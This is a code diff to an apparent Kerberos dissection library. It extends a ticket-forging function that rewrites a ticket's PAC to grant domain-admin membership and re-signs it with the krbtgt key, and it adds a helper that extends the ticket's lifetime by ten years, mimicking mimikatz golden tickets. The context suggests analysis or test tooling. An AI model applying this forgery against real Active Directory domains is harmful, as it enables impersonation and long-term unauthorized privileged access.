@@ -139,14 +139,16 @@ def forge(
     edit: Callable[[bytearray], None] = domain_admins,
     server_key: Key | None = None,
     kdc_key: Key | None = None,
+    ticket_edit: Callable[[bytes], bytes] | None = None,
 ) -> tuple[bytes, bytes]:
     """The ticket with its PAC edited in place by ``edit``, every signature re-signed (server
     with ``server_key``, the KDC, ticket and full ones with ``kdc_key``; by default the real
-    keys) and the EncTicketPart re-encrypted with the ticket's key: (cipher, enc_ticket_part)."""
+    keys) and the EncTicketPart (edited by ``ticket_edit``, same size) re-encrypted with the
+    ticket's key: (cipher, enc_ticket_part)."""
     pac = bytearray(ticket.pac)
     edit(pac)
     table = buffers(bytes(pac))
-    enc = ticket.enc_ticket_part
+    enc = ticket_edit(ticket.enc_ticket_part) if ticket_edit else ticket.enc_ticket_part
     server_key = server_key or ticket.key
     kdc_key = kdc_key or krbtgt_keys()[0]
 
@@ -167,6 +169,18 @@ def forge(
     _sign(pac, pac_sign.KDC, kdc_key, server_sig)
     plain = rebuilt(bytes(pac))
     return kerberos.encrypt(ticket.key, TICKET_USAGE, plain), plain
+
+
+def ten_years(enc_ticket_part: bytes) -> bytes:
+    """The EncTicketPart with its endtime ten years later (RFC 4120 5.3; the year digits of the
+    GeneralizedTime changed in place), as mimikatz and ticketer write it."""
+    from negodissect.gss.kerberos_decrypt import decode_plaintext
+
+    end = decode_plaintext(TICKET_USAGE, enc_ticket_part).find("Endtime")
+    text = str(end.value)
+    later = str(int(text[:4]) + 10) + text[4:]
+    at = enc_ticket_part.index(text.encode(), end.offset)
+    return enc_ticket_part[:at] + later.encode() + enc_ticket_part[at + len(later) :]
 
 
 def relaid(pac: bytes, contents: dict[int, bytes]) -> bytes:
